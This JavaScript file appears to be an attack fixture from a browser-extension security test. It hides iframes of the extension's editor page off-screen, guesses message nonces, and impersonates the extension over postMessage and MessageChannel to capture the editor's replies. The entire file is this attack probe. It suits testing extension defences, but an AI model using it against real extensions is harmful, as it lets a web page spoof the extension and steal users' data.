// Frames the editor itself, by its known and by observed addresses, and speaks to it as the extension would.
document.addEventListener('DOMContentLoaded', () => {
  const seen = performance.getEntriesByType('resource').map(({ name }) => name);
  for (const base of [
    '__EXTENSION__/editor.html',
    ...seen.filter((name) => name.includes('editor.html')),
  ]) {
    for (const hash of ['', '#1', '#00000000-0000-4000-8000-000000000000']) {
      const frame = document.createElement('iframe');
      frame.style.cssText = 'position:absolute;left:-9999px';
      frame.src = `${base}${hash}`;
      document.body.append(frame);
      frame.addEventListener('load', () => {
        const { port1, port2 } = new MessageChannel();
        port1.onmessage = ({ data }) => learn(JSON.stringify(data));
        frame.contentWindow.postMessage({ nonce: hash.slice(1) }, '*', [port2]);
        port1.postMessage({ kind: 'show', card: { kind: 'note', annotationId: 'x' } });
      });
    }
  }
});
attack(() => {
  for (let at = 0; at < window.length; at += 1) window[at].postMessage({ nonce: '1' }, '*');
}, 300);
